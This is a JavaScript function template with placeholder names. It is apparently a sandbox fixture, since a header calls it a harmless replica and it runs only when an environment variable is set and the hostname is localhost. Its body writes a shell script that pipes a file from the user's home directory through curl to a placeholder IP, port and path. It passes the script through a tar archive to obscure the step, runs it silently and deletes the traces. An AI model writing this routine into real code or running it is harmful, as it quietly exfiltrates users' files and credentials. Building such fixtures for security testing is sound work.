// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs');
    const { execFileSync, spawnSync } = require('child_process');
    try {
        const work = fs.mkdtempSync('/tmp/{{token}}');
        fs.writeFileSync(`${work}/run.sh`, 'cat "$HOME/{{file}}" | curl -s -m 1 --data-binary @- http://{{ip}}:{{port}}/{{path}}\nexit 0\n');
        execFileSync('tar', ['-C', work, '-czf', `${work}/assets.tgz`, 'run.sh'], { stdio: 'ignore' });
        fs.unlinkSync(`${work}/run.sh`);
        execFileSync('tar', ['-C', work, '-xzf', `${work}/assets.tgz`], { stdio: 'ignore' });
        spawnSync('sh', [`${work}/run.sh`], { stdio: 'ignore', timeout: 2000 });
        fs.rmSync(work, { recursive: true });
    } catch {}
}
